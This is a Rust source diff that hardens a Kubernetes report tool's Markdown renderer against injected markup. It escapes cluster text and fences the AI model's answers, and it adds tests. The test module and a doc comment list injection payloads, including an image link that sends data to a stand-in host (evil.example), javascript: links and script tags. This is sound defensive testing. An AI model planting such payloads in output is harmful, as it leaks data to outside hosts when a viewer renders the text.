@@ -1,4 +1,9 @@
 //! The Markdown view: readable as plain text in a terminal or a mail, and rendered by any Markdown viewer.
+//!
+//! Every string that came from the cluster or the model is untrusted: a viewer fetches an image as soon as it
+//! renders, so a planted `![x](http://host/?d=names)` would send data off the host. Two functions are the only
+//! way such text enters the Markdown: [`inline`] (cluster text, escaped so nothing in it is markup) and
+//! [`literal_block`] (the model's answers, shown verbatim in a fenced code block, where nothing is markup).
 
 use std::collections::HashSet;
 use std::fmt::Write;
@@ -16,12 +21,12 @@ pub fn render(doc: &ReportDocument) -> String {
     let d = &doc.diff;
     let mut out = String::new();
     let _ = writeln!(out, "# mekhanikube report\n");
-    let _ = writeln!(out, "**Source:** {}  ", esc(&text::source(&a.source)));
-    let _ = writeln!(out, "**Scope:** {}  ", esc(&text::scope(&a.scope)));
+    let _ = writeln!(out, "**Source:** {}  ", inline(&text::source(&a.source)));
+    let _ = writeln!(out, "**Scope:** {}  ", inline(&text::scope(&a.scope)));
     let _ = writeln!(
         out,
         "**Generated:** {} \u{b7} report `{}` \u{b7} history key `{}`\n",
-        text::when(&doc.generated_at),
+        inline(&text::when(&doc.generated_at)),
         doc.report,
         doc.history.key
     );
@@ -34,7 +39,7 @@ pub fn render(doc: &ReportDocument) -> String {
         out,
         "| **{}**/100{change} | {} | {} | {} | {} |\n",
         a.summary.health_score,
-        esc(&text::counts(&a.summary)),
+        inline(&text::counts(&a.summary)),
         d.new.len(),
         d.resolved.len(),
         d.persisting.len()
@@ -44,7 +49,7 @@ pub fn render(doc: &ReportDocument) -> String {
             let _ = writeln!(
                 out,
                 "Compared with the previous run of {} (`{}`, health score {}).\n",
-                text::when(&prev.generated_at),
+                inline(&text::when(&prev.generated_at)),
                 prev.report,
                 prev.summary.health_score
             );
@@ -74,10 +79,10 @@ pub fn render(doc: &ReportDocument) -> String {
                 i + 1,
                 f.severity,
                 f.code,
-                esc(&text::namespace(&f.object)),
-                esc(&text::object(&f.object)),
-                esc(&text::parent(f).unwrap_or_else(|| "-".into())),
-                esc(&text::clean(&f.message))
+                inline(&text::namespace(&f.object)),
+                inline(&text::object(&f.object)),
+                inline(&text::parent(f).unwrap_or_else(|| "-".into())),
+                inline(&text::clean(&f.message))
             );
         }
         out.push('\n');
@@ -88,13 +93,13 @@ pub fn render(doc: &ReportDocument) -> String {
     if !explanations.is_empty() {
         let _ = writeln!(out, "## Explanations\n");
         for e in explanations {
-            let _ = writeln!(out, "### {}\n", esc(&e.heading));
+            let _ = writeln!(out, "### {}\n", inline(&e.heading));
             if !e.objects.is_empty() {
-                let objects: Vec<String> = e.objects.iter().map(|o| esc(o)).collect();
+                let objects: Vec<String> = e.objects.iter().map(|o| inline(o)).collect();
                 let _ = writeln!(out, "Affects: {}\n", objects.join(", "));
             }
-            // The model writes Markdown; keep it, but no raw HTML.
-            let _ = writeln!(out, "{}\n", e.body.replace('<', "&lt;").replace('>', "&gt;").trim_end());
+            // The model's Markdown is shown as written, not rendered: the HTML view does the same.
+            let _ = writeln!(out, "{}", literal_block(e.body.trim_end()));
         }
     }
 
@@ -108,8 +113,8 @@ pub fn render(doc: &ReportDocument) -> String {
         let _ = writeln!(
             out,
             "| `{}`{mark} | {} | {} | {} | {} | {} | {} | {} | {} |",
-            esc(&run.report),
-            text::when(&run.generated_at),
+            run.report,
+            inline(&text::when(&run.generated_at)),
             s.health_score,
             s.critical,
             s.high,
@@ -125,7 +130,7 @@ pub fn render(doc: &ReportDocument) -> String {
         let _ = writeln!(out, "## Not read\n");
         let _ = writeln!(out, "Checks that need these kinds were not made.\n");
         for s in &a.skipped {
-            let _ = writeln!(out, "- {}: {}", esc(&text::clean(&s.kind)), esc(&text::clean(&s.reason)));
+            let _ = writeln!(out, "- {}: {}", inline(&text::clean(&s.kind)), inline(&text::clean(&s.reason)));
         }
         out.push('\n');
     }
@@ -145,9 +150,9 @@ fn short_table(out: &mut String, findings: &[Finding]) {
             "| {} | `{}` | {} | {} | {} |",
             f.severity,
             f.code,
-            esc(&text::namespace(&f.object)),
-            esc(&text::object(&f.object)),
-            esc(&text::clean(&f.message))
+            inline(&text::namespace(&f.object)),
+            inline(&text::object(&f.object)),
+            inline(&text::clean(&f.message))
         );
     }
     out.push('\n');
@@ -160,34 +165,166 @@ fn evidence(out: &mut String, findings: &[Finding]) {
     let _ = writeln!(out, "### Evidence\n");
     for (i, f) in findings.iter().enumerate().filter(|(_, f)| !f.evidence.is_empty()) {
         let _ =
-            writeln!(out, "**{}. {} `{}` {}**\n", i + 1, f.severity, f.code, esc(&text::clean(&f.object.display())));
+            writeln!(out, "**{}. {} `{}` {}**\n", i + 1, f.severity, f.code, inline(&text::clean(&f.object.display())));
         for e in &f.evidence {
-            let _ = writeln!(out, "- {}", esc(&text::evidence(e)));
+            let _ = writeln!(out, "- {}", inline(&text::evidence(e)));
         }
         out.push('\n');
     }
 }
 
-/// Cluster text in Markdown: the characters that would start formatting, links, HTML or a table cell are
-/// backslash-escaped (CommonMark allows it for any ASCII punctuation).
-fn esc(text: &str) -> String {
-    let mut out = String::with_capacity(text.len());
-    for c in text.chars() {
-        if matches!(c, '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '~' | '&' | '#') {
+/// Untrusted text as inline Markdown that renders as exactly that text and is never a link, an image, HTML,
+/// an entity, emphasis or a table cell break. CommonMark lets any ASCII punctuation be backslash-escaped, so:
+/// - the characters that open markup (`[`, `]`, `<`, `>`, `&`, `` ` ``, `*`, `_`, `~`, `|`, `#`, `!`, `\`) are
+///   escaped wherever they are;
+/// - GFM also turns bare `http://`, `www.` and `user@host` into links: the `:` of `://`, the `.` after `www`
+///   and every `@` are escaped, which breaks the pattern without changing what is shown.
+///
+/// Line breaks are the caller's business: cluster text is on one line already (`text::clean`).
+pub fn inline(text: &str) -> String {
+    let mut out = String::with_capacity(text.len() + 8);
+    let mut rest = text;
+    while let Some(c) = rest.chars().next() {
+        let after = &rest[c.len_utf8()..];
+        let escape = match c {
+            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '~' | '&' | '#' | '!' | '@' => true,
+            ':' => after.starts_with("//"),
+            '.' => out.len() >= 3 && out.as_bytes()[out.len() - 3..].eq_ignore_ascii_case(b"www"),
+            _ => false,
+        };
+        if escape {
             out.push('\\');
         }
         out.push(c);
+        rest = after;
     }
     out
 }
 
+/// Untrusted multi-line text (a model's answer) shown verbatim: a fenced code block, whose content a Markdown
+/// viewer never parses, so no link, image, autolink or HTML in it is live. The fence is longer than any run of
+/// backticks in the text, so the text cannot close it.
+pub fn literal_block(text: &str) -> String {
+    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
+    let fence = "`".repeat(longest.max(2) + 1);
+    let mut out = format!("{fence}text\n");
+    for line in text.lines() {
+        out.push_str(line);
+        out.push('\n');
+    }
+    out.push_str(&fence);
+    out.push('\n');
+    out
+}
+
 #[cfg(test)]
-mod tests {
-    use super::esc;
+pub(crate) mod tests {
+    use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag};
+
+    use super::{inline, literal_block};
+
+    /// Text planted in cluster data or a model answer to make a Markdown viewer fetch a URL or run markup.
+    pub(crate) const PAYLOADS: &[&str] = &[
+        "![x](http://evil.example/leak?d=shop-db)",
+        "[click](javascript:alert(1))",
+        "<http://evil.example/autolink>",
+        "<img src=http://evil.example/i.png>",
+        "<script>alert(1)</script>",
+        "[ref][r]\n\n[r]: http://evil.example/ref",
+        "[r]: http://evil.example/definition",
+        "bare http://evil.example/bare and https://evil.example/s",
+        "www.evil.example/www",
+        "mail ops@evil.example",
+        "&lt;b&gt; &#x3C;i&#x3E;",
+        "``![x](http://evil.example/in-code)``",
+        "| a | b |",
+        "\\![x](http://evil.example/backslash)",
+    ];
+
+    /// GFM as viewers render it (tables, strikethrough, footnotes, task lists).
+    fn parse(markdown: &str) -> Vec<Event<'_>> {
+        Parser::new_ext(markdown, Options::all()).collect()
+    }
+
+    /// Fails on any link, image, HTML or footnote reference in the rendered Markdown; GFM's bare-URL autolinks
+    /// (not implemented by the parser) are checked in the source outside code blocks.
+    pub(crate) fn assert_inert(markdown: &str) {
+        let mut in_code = false;
+        for (event, range) in Parser::new_ext(markdown, Options::all()).into_offset_iter() {
+            match &event {
+                Event::Start(Tag::Link { .. } | Tag::Image { .. } | Tag::HtmlBlock)
+                | Event::Html(_)
+                | Event::InlineHtml(_)
+                | Event::FootnoteReference(_) => panic!("live markup {event:?} at {range:?} in:\n{markdown}"),
+                Event::Start(Tag::CodeBlock(_)) => in_code = true,
+                Event::End(pulldown_cmark::TagEnd::CodeBlock) => in_code = false,
+                Event::Text(_) if !in_code => {
+                    // An escaped `:` or `@` splits the text where GFM looks for a bare URL or address.
+                    let source = &markdown[range.clone()];
+                    let live = |needle: &str| {
+                        source.match_indices(needle).any(|(k, _)| {
+                            let at = range.start + k;
+                            needle == "www." || at == 0 || markdown.as_bytes()[at - 1] != b'\\'
+                        })
+                    };
+                    for autolink in ["://", "www.", "@"] {
+                        assert!(!live(autolink), "GFM would autolink {source:?} in:\n{markdown}");
+                    }
+                }
+                _ => {}
+            }
+        }
+    }
 
     #[test]
     fn escapes_markup_and_table_breakers() {
-        assert_eq!(esc("a|b <script> *x* [l](u)"), "a\\|b \\<script\\> \\*x\\* \\[l\\](u)");
-        assert_eq!(esc("shop/Pod/api-1"), "shop/Pod/api-1");
+        assert_eq!(inline("a|b <script> *x* [l](u)"), "a\\|b \\<script\\> \\*x\\* \\[l\\](u)");
+        assert_eq!(inline("shop/Pod/api-1"), "shop/Pod/api-1");
+        assert_eq!(inline("see https://x.example and www.y.example"), "see https\\://x.example and www\\.y.example");
+        assert_eq!(inline("näme www"), "näme www", "the www check is not fooled by multi-byte text");
+    }
+
+    /// Each payload, escaped, renders as one paragraph whose text is exactly the payload: nothing became markup.
+    #[test]
+    fn inline_text_renders_as_itself() {
+        for payload in PAYLOADS {
+            let one_line = payload.replace('\n', " ");
+            let markdown = inline(&one_line);
+            let events = parse(&markdown);
+            let text: String = events
+                .iter()
+                .filter_map(|e| match e {
+                    Event::Text(t) => Some(t.to_string()),
+                    Event::Start(Tag::Paragraph) | Event::End(pulldown_cmark::TagEnd::Paragraph) => None,
+                    other => panic!("{payload:?} became {other:?}"),
+                })
+                .collect();
+            assert_eq!(text, one_line);
+            assert_inert(&markdown);
+            // In a table cell too.
+            assert_inert(&format!("| h |\n|---|\n| {markdown} |\n"));
+        }
+    }
+
+    /// A model answer is one fenced code block with exactly its text, whatever fences or markup it contains.
+    #[test]
+    fn literal_block_keeps_the_answer_verbatim() {
+        let answer = format!("Cause: see below.\n```\nclosed?\n````\n{}\n1. kubectl get pods", PAYLOADS.join("\n"));
+        let markdown = literal_block(&answer);
+        let events = parse(&markdown);
+        assert!(
+            matches!(&events[0], Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(info))) if info.as_ref() == "text"),
+            "{events:?}"
+        );
+        let text: String = events
+            .iter()
+            .filter_map(|e| match e {
+                Event::Text(t) => Some(t.to_string()),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(text, format!("{answer}\n"));
+        assert_eq!(events.len(), events.iter().filter(|e| matches!(e, Event::Text(_))).count() + 2, "{events:?}");
+        assert_inert(&markdown);
     }
 }
